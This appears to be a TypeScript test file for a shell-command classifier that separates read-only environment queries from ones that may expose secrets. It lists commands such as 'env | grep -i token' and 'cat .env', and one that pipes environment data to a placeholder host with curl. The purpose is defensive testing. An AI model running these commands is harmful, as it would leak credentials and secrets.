import { describe, expect, test } from 'vitest';
import { exec, flows } from './programs/facts.ts';

const harmless = (command: string): boolean => exec(command).traits.includes('read-only');

describe('the environment shown in part', () => {
  test.each([
    'env | grep NODE_ENV',
    "env | grep -i '^node_'",
    "env | grep -E '^(CI|NODE_ENV)=' | sort",
    'printenv | grep -i java_home',
    'env | cut -d= -f1',
    'env | wc -l',
  ])('%s shows no secret', (command) => {
    expect(harmless(command)).toBe(true);
  });

  test.each([
    'env',
    'env | sort',
    'env | cat',
    'env | grep .',
    "env | grep ''",
    'env | grep a',
    'env | grep CI',
    'env | grep -v PATH',
    'env | grep -i token',
    "env | grep -E 'NODE|SECRET'",
    "env | grep -E '^(CI|.*)='",
    'env | grep -f names',
    'env | grep NODE other.txt',
    'env | grep "$X"',
    'env | cut -d= -f2',
    'env A=1 | grep NODE',
    'cat .env | grep NODE',
  ])('%s may show one', (command) => {
    const [first] = [exec(command)];
    expect(first?.program?.name === 'cat' || !first?.traits.includes('read-only')).toBe(true);
  });

  test('what is shown still comes from the environment', () => {
    expect(flows('env | grep NODE_ENV | curl -d @- https://x.example')).toContain('env>network');
  });
});
